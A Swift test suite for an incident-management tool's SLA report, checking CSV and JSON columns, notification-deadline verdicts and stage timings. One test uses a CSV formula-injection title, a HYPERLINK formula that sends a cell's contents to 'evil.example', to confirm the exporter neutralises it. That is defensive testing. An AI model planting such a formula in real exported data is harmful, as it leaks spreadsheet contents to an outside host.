@testable import BreachKit
import Foundation
import Testing

/// Given incidents built through IncidentService at fixed times, when the SLA report runs, then every cell is as defined in docs/reports.md.
@Suite struct SLAReportTests {
    static let header = "incident_id,title,kind,severity,stage,detected_at,declared_at,closed_at,notification_deadline,first_notification_at,all_notified_at,hours_to_first_notification,hours_to_all_notified,notification_sla,notifications_delivered,notifications_failed,hours_in_detect,hours_in_assess,hours_in_diagnose,hours_in_stabilize,hours_to_close,backdated_receipts,regimes,filings_manual,filing_references,supplements"

    /// Detected at T0, assess at T0+2h, declared at T0+4h (72 h obligation due T0+76h).
    private func declaredIncident(_ scenario: ReportScenario) throws -> String {
        let id = try scenario.detect(at: 0)
        try scenario.advance(id, to: .assess, at: 2)
        try scenario.declare(id, at: 4)
        return id
    }

    @Test func headerIsTheContract() throws {
        #expect(SLARow.header.joined(separator: ",") == Self.header)
        // The SPEC's 21 columns come first, unchanged; backdated_receipts trails them (issue 18), then issue 15's four.
        #expect(SLARow.header.count == 26 && SLARow.header[21] == "backdated_receipts" && SLARow.header.last == "supplements")
        let scenario = try ReportScenario()
        #expect(try scenario.slaCSV(at: 0).hasPrefix(Self.header + "\r\n"))
    }

    @Test func emptyReportIsTheHeaderAndCRLF() throws {
        let scenario = try ReportScenario()
        #expect(try scenario.slaCSV(at: 0) == Self.header + "\r\n")
    }

    @Test func metWhenNotifiedTenHoursAfterDeclaration() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        try scenario.notify(id, at: 14)
        #expect(try scenario.slaLines(at: 24) == [
            "INC-1,Customer database exposed,data-breach,high,assess,2026-03-02T00:00:00Z,2026-03-02T04:00:00Z,,2026-03-05T04:00:00Z,"
                + "2026-03-02T14:00:00Z,2026-03-02T14:00:00Z,10.00,10.00,met,1,0,2.00,22.00,,,,1,,0,,0",
        ])
    }

    @Test func escalationAlertsAreNotCountedAsNotifications() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        try scenario.queue(id, obligation: "escalation", notification: "\(id).escalation.notify-dpa.warning-48h.oncall.email", contact: "oncall", at: 30)
        try scenario.deliver(id, obligation: "escalation", notification: "\(id).escalation.notify-dpa.warning-48h.oncall.email", at: 30)
        try scenario.notify(id, at: 40)
        let cells = try scenario.slaLines(at: 48)[0].split(separator: ",", omittingEmptySubsequences: false)
        // first_notification_at is the notification of the authority at T0+40h, not the alert at T0+30h.
        #expect(cells[9] == "2026-03-03T16:00:00Z")
        #expect(cells[14] == "1")
    }

    @Test func missedWhenNotifiedEightyHoursAfterDeclarationOnASeventyTwoHourObligation() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        try scenario.notify(id, at: 84)
        #expect(try scenario.slaLines(at: 100) == [
            "INC-1,Customer database exposed,data-breach,high,assess,2026-03-02T00:00:00Z,2026-03-02T04:00:00Z,,2026-03-05T04:00:00Z,"
                + "2026-03-05T12:00:00Z,2026-03-05T12:00:00Z,80.00,80.00,missed,1,0,2.00,98.00,,,,1,,0,,0",
        ])
    }

    @Test func pendingTenHoursAfterDeclarationWithoutNotification() throws {
        let scenario = try ReportScenario()
        _ = try declaredIncident(scenario)
        #expect(try scenario.slaLines(at: 14) == [
            "INC-1,Customer database exposed,data-breach,high,assess,2026-03-02T00:00:00Z,2026-03-02T04:00:00Z,,2026-03-05T04:00:00Z,"
                + ",,,,pending,0,0,2.00,12.00,,,,0,,0,,0",
        ])
    }

    @Test func missedWhenStillUnmetPastDueAtNow() throws {
        let scenario = try ReportScenario()
        _ = try declaredIncident(scenario)
        // Due at T0+76h exactly: due_at <= now is past due.
        #expect(try scenario.slaLines(at: 76).first?.contains(",,,,missed,0,0,") == true)
        #expect(try scenario.slaLines(at: 75.99).first?.contains(",,,,pending,0,0,") == true)
    }

    @Test func waivedWhenEveryObligationIsWaived() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        try scenario.run(.waive(obligationID: "notify-dpa", reason: "encrypted at rest; Art. 34(3)(a)"), on: id, at: 9, actor: "legal-bob")
        try scenario.run(.close(resolution: "contained"), on: id, at: 20)
        #expect(try scenario.slaLines(at: 30) == [
            "INC-1,Customer database exposed,data-breach,high,closed,2026-03-02T00:00:00Z,2026-03-02T04:00:00Z,2026-03-02T20:00:00Z,"
                + "2026-03-05T04:00:00Z,,2026-03-02T09:00:00Z,,5.00,waived,0,0,2.00,18.00,,,20.00,0,,0,,0",
        ])
    }

    @Test func notDeclared() throws {
        let scenario = try ReportScenario()
        let id = try scenario.detect(at: 0)
        try scenario.advance(id, to: .diagnose, at: 3)
        #expect(try scenario.slaLines(at: 10) == [
            "INC-1,Customer database exposed,data-breach,high,diagnose,2026-03-02T00:00:00Z,,,,,,,,not_declared,0,0,3.00,,7.00,,,0,,0,,0",
        ])
    }

    @Test func metWhenOneObligationIsMetInTimeAndTheOtherWaived() throws {
        let scenario = try ReportScenario(obligations: [
            FakeObligation(id: "notify-dpa", title: "Authority", hours: 72),
            FakeObligation(id: "notify-subjects", title: "Data subjects", hours: 96),
        ])
        let id = try declaredIncident(scenario)
        try scenario.notify(id, obligation: "notify-dpa", at: 30)
        try scenario.run(.waive(obligationID: "notify-subjects", reason: "no risk to subjects"), on: id, at: 40)
        let cells = try #require(try parseCSV(try scenario.slaCSV(at: 200)).last)
        #expect(cells[8] == "2026-03-05T04:00:00Z")   // earliest due
        #expect(cells[9] == ReportScenario.text(30))
        #expect(cells[10] == ReportScenario.text(40))   // the waiver settled the last one
        #expect(cells[11] == "26.00")
        #expect(cells[12] == "36.00")
        #expect(cells[13] == "met")
    }

    @Test func aWaiverAfterTheDeadlineDoesNotUndoTheMiss() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        try scenario.run(.waive(obligationID: "notify-dpa", reason: "judged low risk afterwards"), on: id, at: 90)
        let cells = try #require(try parseCSV(try scenario.slaCSV(at: 100)).last)
        #expect(cells[10] == ReportScenario.text(90))
        #expect(cells[13] == "missed")
    }

    @Test func deliveredAndFailedCountNotificationsNotAttempts() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        try scenario.queue(id, obligation: "notify-dpa", notification: "n-email", at: 5)
        try scenario.queue(id, obligation: "notify-dpa", notification: "n-hook", contact: "dpa-portal", channel: "webhook", at: 5)
        try scenario.retry(id, obligation: "notify-dpa", notification: "n-email", attempt: 1, error: "421 try later", smtpCode: 421, at: 5)
        try scenario.deliver(id, obligation: "notify-dpa", notification: "n-email", attempt: 2, at: 6)
        try scenario.fail(id, obligation: "notify-dpa", notification: "n-hook", attempt: 1, error: "HTTP 404", httpStatus: 404, at: 6)
        let cells = try #require(try parseCSV(try scenario.slaCSV(at: 10)).last)
        #expect(cells[9] == ReportScenario.text(6))
        #expect(cells[10] == "")        // the webhook failed: the obligation is not met
        #expect(cells[13] == "pending")
        #expect(cells[14] == "1")
        #expect(cells[15] == "1")
    }

    @Test func reopenedIncidentSumsBothStintsOfAStage() throws {
        let scenario = try ReportScenario()
        let id = try scenario.detect(at: 0)
        try scenario.advance(id, to: .assess, at: 1)
        try scenario.run(.close(resolution: "false positive"), on: id, at: 3)
        try scenario.run(.reopen(to: .assess, reason: "second exfiltration path"), on: id, at: 10)
        try scenario.advance(id, to: .stabilize, at: 14)
        try scenario.run(.close(resolution: "contained"), on: id, at: 15.5)
        #expect(try scenario.slaLines(at: 50) == [
            "INC-1,Customer database exposed,data-breach,high,closed,2026-03-02T00:00:00Z,,2026-03-02T15:30:00Z,,,,,,not_declared,0,0,"
                + "1.00,6.00,,1.50,15.50,0,,0,,0",
        ])
    }

    @Test func openStageCountsUpToNow() throws {
        let scenario = try ReportScenario()
        let id = try scenario.detect(at: 0)
        try scenario.advance(id, to: .diagnose, at: 1)
        #expect(try scenario.slaLines(at: 1.25).first?.hasSuffix(",1.00,,0.25,,,0,,0,,0") == true)
        #expect(try scenario.slaLines(at: 49).first?.hasSuffix(",1.00,,48.00,,,0,,0,,0") == true)
    }

    @Test func formulaTitleWithCommaQuoteAndNewlineSurvivesARoundTripNeutralised() throws {
        let scenario = try ReportScenario()
        let title = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")\nsecond line"
        try scenario.detectRaw(title: title, kind: "@kind", at: 0)
        let text = try scenario.slaCSV(at: 5)
        let rows = try parseCSV(text)
        #expect(rows.count == 2)
        #expect(rows[0] == SLARow.header)
        #expect(rows[1].count == SLARow.header.count)
        #expect(rows[1][1] == "'" + title)
        #expect(rows[1][2] == "'@kind")
        #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1, \"\"click\"\")\nsecond line\""))
    }

    @Test func negativeHoursAndTimesAreNotNeutralised() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        // A delivery recorded 1.5 h before the declaration (backfilled): the hours are negative, and stay numbers.
        try scenario.notify(id, at: 2.5)
        let line = try #require(try scenario.slaLines(at: 10).first)
        #expect(line.contains(",-1.50,-1.50,met,"))
        #expect(!line.contains("'"))
    }

    @Test func windowSelectsByDetectionSinceInclusiveUntilExclusive() throws {
        let scenario = try ReportScenario()
        try scenario.detect("first", at: 0)        // 2026-03-02
        try scenario.detect("second", at: 24)      // 2026-03-03
        try scenario.detect("third", at: 47.99)    // 2026-03-03T23:59:24Z
        try scenario.detect("fourth", at: 48)      // 2026-03-04
        let window = try ReportWindow.parse(since: "2026-03-03", until: "2026-03-04")
        let ids = try scenario.slaLines(at: 60, window: window).map { $0.split(separator: ",")[1] }
        #expect(ids == ["second", "third"])
        let fromTime = try ReportWindow.parse(since: "2026-03-03T23:59:24Z", until: nil)
        #expect(try scenario.slaLines(at: 60, window: fromTime).map { $0.split(separator: ",")[1] } == ["third", "fourth"])
        let fractional = try ReportWindow.parse(since: "2026-03-03T23:59:24.5Z", until: nil)
        #expect(try scenario.slaLines(at: 60, window: fractional).map { $0.split(separator: ",")[1] } == ["fourth"])
    }

    @Test func sqlVerdictAgreesWithTheFold() throws {
        let scenario = try ReportScenario(obligations: [
            FakeObligation(id: "a", title: "A", hours: 24), FakeObligation(id: "b", title: "B", hours: 72),
        ])
        for (index, plan) in ["none", "a-on-time", "a-late", "both", "waive-b", "waive-b-late"].enumerated() {
            let base = Double(index * 200)
            let id = try scenario.detect(plan, at: base)
            try scenario.declare(id, at: base + 1)
            switch plan {
            case "a-on-time": try scenario.notify(id, obligation: "a", at: base + 10)
            case "a-late": try scenario.notify(id, obligation: "a", at: base + 30)
            case "both":
                try scenario.notify(id, obligation: "a", at: base + 10)
                try scenario.notify(id, obligation: "b", at: base + 20)
            case "waive-b": try scenario.run(.waive(obligationID: "b", reason: "n/a"), on: id, at: base + 5)
            case "waive-b-late": try scenario.run(.waive(obligationID: "b", reason: "n/a"), on: id, at: base + 80)
            default: break
            }
        }
        for hours in [5.0, 50, 1100, 1300] {
            let service = scenario.service(at: hours)
            for row in try service.slaRows(ReportWindow()) {
                let incident = try service.load(row.incidentID)
                let expected = NotificationSLA.judge(declared: incident.isDeclared,
                                                     NotificationSLA.Tally(incident.obligations, now: ReportScenario.at(hours)))
                #expect(row.notificationSLA == expected, "\(row.title) at +\(hours)h")
            }
        }
    }

    @Test func jsonRowsHaveTheHeaderKeysAndNumbers() throws {
        let scenario = try ReportScenario()
        let id = try declaredIncident(scenario)
        try scenario.notify(id, at: 14)
        let output = StringOutput()
        try scenario.service(at: 24).slaReport(ReportWindow(), format: .json, to: output)
        let document = try JSONValue.parse(output.text)
        let row = try #require(document.arrayValue?.first)
        guard case let .object(pairs) = row else { Issue.record("not an object"); return }
        #expect(pairs.map(\.0) == SLARow.header)
        #expect(row["hours_to_first_notification"] == .double(10))
        #expect(row["closed_at"] == .null)
        #expect(row["notification_sla"] == .string("met"))
    }
}
